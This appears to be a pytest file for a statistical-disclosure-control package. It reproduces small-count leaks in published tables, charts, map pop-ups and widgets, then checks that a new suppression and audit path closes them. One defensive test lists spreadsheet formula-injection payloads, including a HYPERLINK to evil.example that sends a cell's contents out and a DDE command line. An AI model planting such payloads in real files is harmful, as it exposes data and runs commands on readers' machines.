"""Each leak of issue 12 reproduced on the old rules, then shown closed by the one path.

The attacks use only what a reader of the published files has: the cells shown, the
cells marked "*", the margins and the tables published beside them. Numbers are worked by
hand in the comments.
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from workbench.config import load_config
from workbench.disclosure import (
    Count,
    Derived,
    Described,
    Model,
    Published,
    TableSpec,
    apply_mask,
    derived_mask,
    primary_mask,
    protect,
)
from workbench.disclosure.audit import audit_files
from workbench.need.reach import _by_decile_spec
from workbench.need.waits import _waits_spec, _young_people_spec

# The descriptions the analysis functions build (need.waiting_times, young_people_access,
# deprivation_reach, deprivation.by_layer), used here on frames worked by hand.


def _yp_spec(by):
    by = [by] if isinstance(by, str) else by
    return _young_people_spec(
        ["financial_year"] + [{"ward": "ward_code"}.get(b, b) for b in by], 10_000
    )


def _layer(kind, frame):
    from workbench.deprivation import _layer_spec

    return _layer_spec(kind, "layer", frame, 10_000, "partnership")


SAMPLE = Path(__file__).resolve().parents[2] / "data" / "sample" / "area.toml"


def _pub(name: str, frame: pd.DataFrame, spec: TableSpec, hidden=None) -> Published:
    hidden = (
        pd.DataFrame(False, index=frame.index, columns=frame.columns) if hidden is None else hidden
    )
    return Published(name, frame, spec, hidden)


def _primary_only(pub: Published, threshold: int = 5) -> Published:
    """The old per-table rule: counts 1-4 hidden, values derived from them hidden."""
    pub.hidden = derived_mask(primary_mask(pub.values, pub.spec, threshold), pub.spec)
    return pub


def _old_primary(frame: pd.DataFrame, columns, threshold: int = 5) -> pd.DataFrame:
    mask = pd.DataFrame(False, index=frame.index, columns=frame.columns)
    for c in columns:
        mask[c] = ((frame[c] > 0) & (frame[c] < threshold)).to_numpy()
    return mask


def _write(tmp_path: Path, name: str, frame: pd.DataFrame, hidden: pd.DataFrame) -> Path:
    path = tmp_path / f"{name}.csv"
    apply_mask(frame, hidden).to_csv(path, index=False)
    return path


# -- complement ------------------------------------------------------------------------
WAITS = pd.DataFrame(
    {
        "financial_year": ["2021-22"] * 3,
        "cohort": ["adult"] * 3,
        "service_id": ["S01", "S02", "S03"],
        "started": [74, 40, 55],
        "within_target": [70, 30, 44],
    }
)


def test_complement_leak_reproduced_and_closed(tmp_path):
    spec = _waits_spec(["service_id"]).restricted(WAITS.columns)
    # Old rule: only counts 1-4 hidden; none here, so "74 started, 70 within target"
    # shows that 4 people were not seen in time.
    old = _write(tmp_path, "old", WAITS, _old_primary(WAITS, ["started", "within_target"]))
    found = audit_files([(old, spec)], 5)
    leak = [x for x in found.leaks if x.kind == "complement"]
    assert len(leak) == 1 and leak[0].low == leak[0].high == 4
    assert "service_id=S01" in leak[0].row
    (mask,) = protect([_pub("new", WAITS, spec)], 5)
    new = _write(tmp_path, "new", WAITS, mask)
    assert mask.loc[0, "within_target"]
    assert audit_files([(new, spec)], 5).ok


# -- cross-table margins ---------------------------------------------------------------
GROUPS = pd.DataFrame(
    {
        "financial_year": ["2021-22"] * 6,
        "ward_code": ["W1", "W1", "W1", "W2", "W2", "W2"],
        "group": ["LAC", "PRU", "YOT"] * 2,
        "cohort": [11, 3, 2, 20, 6, 8],
    }
)
BY_WARD = GROUPS.groupby(["financial_year", "ward_code"], as_index=False)["cohort"].sum()
BY_GROUP = GROUPS.groupby(["financial_year", "group"], as_index=False)["cohort"].sum()


def test_cross_table_margin_leak_reproduced_and_closed(tmp_path):
    specs = [
        _yp_spec(["ward", "group"]).restricted(GROUPS.columns),
        _yp_spec("ward").restricted(BY_WARD.columns),
        _yp_spec("group").restricted(BY_GROUP.columns),
    ]
    frames = [GROUPS, BY_WARD, BY_GROUP]
    # Old rule, table by table: W1's PRU 3 and YOT 2 are hidden, but the PRU total 9
    # minus W2's PRU 6 gives 3 back, and the YOT total 10 minus 8 gives 2.
    paths = [
        _write(tmp_path, f"old{i}", f, _old_primary(f, ["cohort"])) for i, f in enumerate(frames)
    ]
    found = audit_files(list(zip(paths, specs, strict=True)), 5)
    exact = {(x.row, x.low) for x in found.leaks}
    assert ("financial_year=2021-22, ward_code=W1, group=PRU", 3.0) in exact
    assert ("financial_year=2021-22, ward_code=W1, group=YOT", 2.0) in exact
    # New: each table is protected against the ones published before it in the run
    published: list[Published] = []
    new_paths = []
    for i, (f, s) in enumerate(zip(frames, specs, strict=True)):
        pub = _pub(f"new{i}", f, s)
        (pub.hidden,) = protect([pub], 5, published)
        published.append(pub)
        new_paths.append(_write(tmp_path, f"new{i}", f, pub.hidden))
    result = audit_files(list(zip(new_paths, specs, strict=True)), 5)
    assert result.ok, result.message()
    assert result.cells_checked >= 4


def test_decile_total_count_leak_reproduced_and_closed(tmp_path):
    # rates_by_decile (one layer, 10 deciles) beside most_deprived_shares (total_count):
    # decile 1 = 3 hidden, but the 10% group count shows 3 again, and the total minus
    # the nine shown deciles gives it too.
    counts = [3, 20, 25, 30, 30, 35, 40, 40, 45, 50]
    deciles = pd.DataFrame({"layer": "Needle finds", "imd_decile": range(1, 11), "count": counts})
    total = sum(counts)
    shares = pd.DataFrame(
        {
            "layer": "Needle finds",
            "group": ["10% most deprived", "20% most deprived", "30% most deprived"],
            "count": [3, 23, 48],
            "total_count": [total] * 3,
        }
    )
    s1 = _layer("decile_profile", deciles).restricted(deciles.columns)
    s2 = _layer("most_deprived_share", shares).restricted(shares.columns)
    old1 = _write(tmp_path, "d_old", deciles, _old_primary(deciles, ["count"]))
    old2 = _write(tmp_path, "s_old", shares, _old_primary(shares, ["count", "total_count"]))
    found = audit_files([(old1, s1), (old2, s2)], 5)
    assert any(x.row.endswith("imd_decile=1") and x.low == 3 for x in found.leaks)
    p1 = _pub("d", deciles, s1)
    (p1.hidden,) = protect([p1], 5)
    p2 = _pub("s", shares, s2)
    (p2.hidden,) = protect([p2], 5, [p1])
    new1 = _write(tmp_path, "d_new", deciles, p1.hidden)
    new2 = _write(tmp_path, "s_new", shares, p2.hidden)
    assert audit_files([(new1, s1), (new2, s2)], 5).ok


# -- interval bound --------------------------------------------------------------------
def test_interval_bound_leak_reproduced_and_closed(tmp_path):
    # Wilson upper limit of 0 of 1 at 95%: z^2 / (1 + z^2) = 3.8415 / 4.8415 = 0.793
    z2 = 1.959964**2
    assert round(z2 / (1 + z2), 3) == 0.793
    frame = pd.DataFrame(
        {
            "ward_code": ["W1", "W2"],
            "tier3_referred": [1, 12],
            "tier3_within_10_days": [0, 11],
            "tier3_10d_share": [0.0, 0.917],
            "tier3_10d_lower": [0.0, 0.646],
            "tier3_10d_upper": [0.793, 0.985],
        }
    )
    spec = _yp_spec("ward").restricted(frame.columns)
    # Old registry: the interval hung on tier3_within_10_days only (0, shown), so it stayed
    # beside a hidden tier3_referred of 1.
    old_mask = _old_primary(frame, ["tier3_referred", "tier3_within_10_days"])
    for c in ("tier3_10d_share", "tier3_10d_lower", "tier3_10d_upper"):
        old_mask[c] = old_mask["tier3_within_10_days"]
    old = _write(tmp_path, "old", frame, old_mask)
    found = audit_files([(old, spec)], 5)
    assert any(x.column == "tier3_10d_upper" and x.kind == "derived" for x in found.leaks)
    # and the attack itself: only 0 of 1 has a Wilson upper limit of 0.793, so the hidden
    # tier3_referred is pinned to 1
    assert any(
        x.column == "tier3_referred" and x.kind == "cell" and x.low == x.high == 1
        for x in found.leaks
    )
    (mask,) = protect([_pub("new", frame, spec)], 5)
    assert mask.loc[0, ["tier3_10d_share", "tier3_10d_lower", "tier3_10d_upper"]].all()
    new = _write(tmp_path, "new", frame, mask)
    assert audit_files([(new, spec)], 5).ok


def test_shown_rate_of_hidden_count_is_inverted_by_the_audit(tmp_path):
    # rate 13.3 per 10,000 of 3,000 residents: count in [3.985, 4.005] -> exactly 4
    frame = pd.DataFrame(
        {"imd_decile": [1, 2], "count": [4, 40], "population": [3000, 5000], "rate": [13.3, 80.0]}
    )
    spec = _by_decile_spec("treatment_by_lsoa.count", 10_000).restricted(frame.columns)
    mask = _old_primary(frame, ["count"])
    path = _write(tmp_path, "r", frame, mask)
    found = audit_files([(path, spec)], 5)
    assert any(x.kind == "derived" and x.column == "rate" for x in found.leaks)
    model = Model([audit_files.__globals__["read_published"](path, spec)], 5)
    cells = [c for c in model.cells if c.hidden]
    fam = model.family_of[cells[0].measure]
    lo, hi = model.bounds(fam, model.box(cells[0]), np.ones(1))
    assert (lo, hi) == (4.0, 4.0)


# -- chart -----------------------------------------------------------------------------
def test_chart_plots_no_rate_of_a_hidden_count(tmp_path):
    import matplotlib

    matplotlib.use("Agg")
    from workbench.deprivation import decile_rate_chart
    from workbench.outputs import Outputs

    out = Outputs(
        "communities", config=load_config(SAMPLE), out_dir=tmp_path, run_date="2024-03-31"
    )
    deciles = pd.DataFrame(
        {
            "layer": "Needle finds",
            "imd_decile": [1, 2, 3],
            "count": [4, 1, 30],
            "population": [3000, 2500, 4000],
            "rate": [13.333, 4.0, 75.0],
        }
    )
    spec = _layer("decile_profile", deciles)
    # Old chart: drawn from the unsuppressed frame, it plots 13.333 and 4.0; with the
    # printed populations 3000 and 2500 they give back 4 and 1.
    old = decile_rate_chart(deciles, logy=False)
    old_y = np.concatenate([line.get_ydata() for line in old.axes[0].get_lines()])
    assert 13.333 in old_y and 4.0 in old_y
    shown = out.table("rates_by_decile", Described.of(deciles, spec))
    new = decile_rate_chart(out.plot_data(shown), logy=False)
    new_y = np.concatenate([line.get_ydata() for line in new.axes[0].get_lines()]).astype(float)
    assert 13.333 not in new_y and 4.0 not in new_y
    assert 75.0 not in new_y or shown.loc[2, "count"] != "*"
    out.abort()


# -- pop-up z-score on a partnership layer ---------------------------------------------
def test_popup_z_score_of_partnership_layer_is_withheld():
    import geopandas as gpd
    from shapely.geometry import box

    from workbench.maps.layers import gistar_layer

    gdf = gpd.GeoDataFrame(
        {
            "count": [2, 0, 9, 3],
            "z": [2.81, -0.4, 3.3, 1.2],
            "p": [0.005, 0.7, 0.001, 0.2],
            "bin": [3, 0, 3, 0],
        },
        geometry=[box(i, 0, i + 1, 1) for i in range(4)],
        crs="EPSG:27700",
    )
    # Old (and open data): z and p of every cell are shown, hidden counts included; with
    # the counts shown the z-scores give the hidden counts back.
    from workbench.maps.popups import format_values

    assert format_values(gdf["z"], 2)[0] == "2.81"  # what the old pop-up showed
    open_layer = gistar_layer(gdf, "Open", threshold=5)
    assert "2.81" not in open_layer.fields["Gi* z"][0]  # beside a withheld count
    assert "3.30" in open_layer.fields["Gi* z"][2]
    protected = gistar_layer(gdf, "Needle finds", threshold=5, protected=True)
    assert not any(t for t in protected.fields.get("Gi* z", []) if any(ch.isdigit() for ch in t))
    assert not any(t for t in protected.fields.get("p", []) if any(ch.isdigit() for ch in t))
    assert "*" in protected.fields["Count"][0]


# -- widget share ----------------------------------------------------------------------
def test_widget_share_of_hidden_numerator_is_withheld():
    import geopandas as gpd
    from shapely.geometry import box

    from workbench.widgets import ChoroplethExplorer

    gdf = gpd.GeoDataFrame(
        {
            "ward_code": ["W1", "W2"],
            "ward_name": ["One", "Two"],
            "cohort": [11, 40],
            "tier2_reached": [3, 20],
            "tier2_share": [3 / 11, 0.5],
        },
        geometry=[box(0, 0, 1, 1), box(1, 0, 2, 1)],
        crs="EPSG:27700",
    )
    measures = {"Tier 2 reach": "tier2_share"}
    cols = {"Tier 2 reach": ["ward_name", "cohort", "tier2_share"]}
    # Old: the share hung on the cohort (11, shown): 0.2727 x 11 = 3 reached
    old = ChoroplethExplorer(
        gdf,
        measures,
        "ward_name",
        table_columns=cols,
        count_columns=["cohort"],
        derived={"tier2_share": "cohort"},
    )
    assert round(float(old.table().set_index("ward_name").loc["One", "tier2_share"]), 4) == 0.2727
    new = ChoroplethExplorer(
        gdf,
        measures,
        "ward_name",
        table_columns=cols,
        spec=_yp_spec("ward"),
    )
    assert new.table().set_index("ward_name").loc["One", "tier2_share"] == "*"
    assert new.table().set_index("ward_name").loc["One", "cohort"] == 11


# -- formula payloads ------------------------------------------------------------------
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]


def test_formula_payloads_are_neutralised_in_csv_and_xlsx(tmp_path):
    from openpyxl import load_workbook

    from workbench.outputs import Outputs

    out = Outputs("treatment", config=load_config(SAMPLE), out_dir=tmp_path, run_date="2024-03-31")
    df = pd.DataFrame(
        {
            "service_id": [f"S{i}" for i in range(len(PAYLOADS))],
            "name": PAYLOADS,
            "capacity": [-1.5, 10, 20, 30, 40, 50, 60],
        }
    )
    out.table("names", Described(df, TableSpec(dims=("service_id",), safe=("capacity",))))
    text = (out.dir / "names.csv").read_bytes().decode("utf-8")
    back = pd.read_csv(out.dir / "names.csv", dtype=str, keep_default_na=False)
    assert all(v.startswith("'") for v in back["name"]), back["name"].tolist()
    assert back["capacity"].iloc[0] == "-1.5"  # numbers stay numbers
    assert not any(line.startswith(("=", "+", "@", '"=')) for line in text.split("\n"))
    assert ",=" not in text and ',"=' not in text
    ws = load_workbook(out.dir / "names.xlsx")["table"]
    names = [ws.cell(row=r, column=2) for r in range(2, 2 + len(PAYLOADS))]
    assert all(c.data_type == "s" for c in names)
    assert [c.value.lstrip("'") for c in names] == PAYLOADS
    assert ws.cell(row=2, column=3).data_type == "n" and ws.cell(row=2, column=3).value == -1.5
    out.abort()


# -- stale files, locks, atomic folders -------------------------------------------------
def test_rerun_replaces_folder_so_no_stale_file_survives(tmp_path):
    from workbench.outputs import Outputs
    from workbench.writing.folder import MARKER

    cfg = load_config(SAMPLE)
    spec = TableSpec(dims=("g",), counts={"n": Count()})
    first = Outputs("treatment", config=cfg, out_dir=tmp_path, run_date="2024-03-31")
    first.table(
        "unsuppressed_old_table", Described(pd.DataFrame({"g": ["a", "b"], "n": [3, 40]}), spec)
    )
    (first.dir / "stray.csv").write_text("n\n3\n", encoding="utf-8")
    first.run_log()
    final = tmp_path / "2024-03-31_treatment"
    assert (final / "unsuppressed_old_table.csv").is_file() and (final / MARKER).is_file()
    second = Outputs("treatment", config=cfg, out_dir=tmp_path, run_date="2024-03-31")
    # while the second run writes, the first run's complete folder is untouched
    assert (final / "unsuppressed_old_table.csv").is_file()
    second.table("new_table", Described(pd.DataFrame({"g": ["a", "b"], "n": [30, 40]}), spec))
    second.run_log()
    names = sorted(p.name for p in final.iterdir())
    assert names == sorted(["new_table.csv", "new_table.xlsx", "run_log.json", MARKER])
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_second_run_into_a_folder_in_use_is_refused(tmp_path):
    from workbench.errors import WorkbenchError
    from workbench.outputs import Outputs

    cfg = load_config(SAMPLE)
    first = Outputs("supply", config=cfg, out_dir=tmp_path, run_date="2024-03-31")
    with pytest.raises(WorkbenchError, match="being written by another run"):
        # same process id is allowed to re-enter; simulate another live process
        lock = tmp_path / ".2024-03-31_supply.lock"
        lock.write_text("1\n", encoding="utf-8")  # pid 1 is always alive
        Outputs("supply", config=cfg, out_dir=tmp_path, run_date="2024-03-31")
    lock.write_text(f"{__import__('os').getpid()}\n", encoding="utf-8")
    first.abort()


def test_read_only_folder_ends_in_one_clear_error_and_no_complete_folder(tmp_path, monkeypatch):
    import errno
    import os

    from workbench.errors import WorkbenchError
    from workbench.outputs import Outputs
    from workbench.writing import folder

    real_open = os.open

    def read_only(path, *args, **kwargs):
        if str(path).startswith(str(tmp_path)):
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, *args, **kwargs)

    # (chmod cannot make a folder read-only for root, so the file system's answer is simulated)
    monkeypatch.setattr(folder.os, "open", read_only)
    with pytest.raises(WorkbenchError, match="the folder is read-only"):
        Outputs("supply", config=load_config(SAMPLE), out_dir=tmp_path, run_date="2024-03-31")
    assert not (tmp_path / "2024-03-31_supply").exists()
    assert not [p for p in tmp_path.iterdir() if ".partial-" in p.name]


def test_full_disk_while_writing_leaves_no_folder_that_looks_complete(tmp_path, monkeypatch):
    import errno

    from workbench.errors import WorkbenchError
    from workbench.outputs import Outputs
    from workbench.writing import cells

    out = Outputs("supply", config=load_config(SAMPLE), out_dir=tmp_path, run_date="2024-03-31")

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("workbench.outputs.write_xlsx", full)
    with pytest.raises(WorkbenchError, match="the disk is full"):
        out.table("t", Described(pd.DataFrame({"n": [10]}), TableSpec(counts={"n": Count()})))
    out.abort()
    assert cells is not None
    assert not (tmp_path / "2024-03-31_supply").exists()
    assert not [p for p in tmp_path.iterdir() if ".partial-" in p.name]


def test_audit_failure_names_file_and_cell_and_publishes_nothing(tmp_path):
    from workbench.errors import WorkbenchError
    from workbench.outputs import Outputs

    out = Outputs("treatment", config=load_config(SAMPLE), out_dir=tmp_path, run_date="2024-03-31")
    spec = _waits_spec([])
    out.table("waiting_times", Described.of(WAITS.drop(columns="service_id").iloc[:1], spec))
    # tamper with the written file as a faulty writer would: show the hidden count
    path = out.dir / "waiting_times.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("*", "70"), encoding="utf-8")
    with pytest.raises(WorkbenchError, match=r"waiting_times.csv: row financial_year=2021-22"):
        out.run_log()
    assert not (tmp_path / "2024-03-31_treatment").exists()


def test_table_spec_survives_a_rename():
    spec = _waits_spec([])
    renamed = spec.rename({"within_target": "seen_in_time"})
    assert renamed.counts["seen_in_time"].part_of == "started"
    assert renamed.derived["share"].counts == ("seen_in_time", "started")
    assert TableSpec.from_dict(renamed.to_dict()) == renamed
    derived = Derived(("x",))
    with pytest.raises(Exception, match="not a count column"):
        TableSpec(counts={"y": Count()}, derived={"r": derived})


def test_tables_of_other_themes_in_the_run_are_protected_against(tmp_path):
    from workbench.outputs import Outputs

    cfg = load_config(SAMPLE)
    by_service = WAITS.copy()
    by_service["within_target"] = [72, 30, 44]  # S01 complement 74 - 72 = 2: hidden
    treatment = Outputs("treatment", config=cfg, out_dir=tmp_path, run_date="2024-03-31")
    shown = treatment.table(
        "waiting_times_by_service", Described.of(by_service, _waits_spec(["service_id"]))
    )
    assert shown["within_target"].tolist() == ["*", 30, 44]
    treatment.run_log()
    # The overview theme of the same run publishes the totals: a total of 146 shown would
    # give S01 back (146 - 30 - 44 = 72, so 2 not seen in time), so it is hidden there.
    totals = by_service.groupby(["financial_year", "cohort"], as_index=False)[
        ["started", "within_target"]
    ].sum()
    overview = Outputs("overview", config=cfg, out_dir=tmp_path, run_date="2024-03-31")
    shown_total = overview.table("waiting_times", Described.of(totals, _waits_spec([])))
    assert shown_total.loc[0, "within_target"] == "*"
    overview.run_log()
    from workbench.disclosure.audit import audit_folders

    result = audit_folders(sorted(tmp_path.glob("2024-03-31_*")), 5)
    assert result.ok and len(result.files) == 2
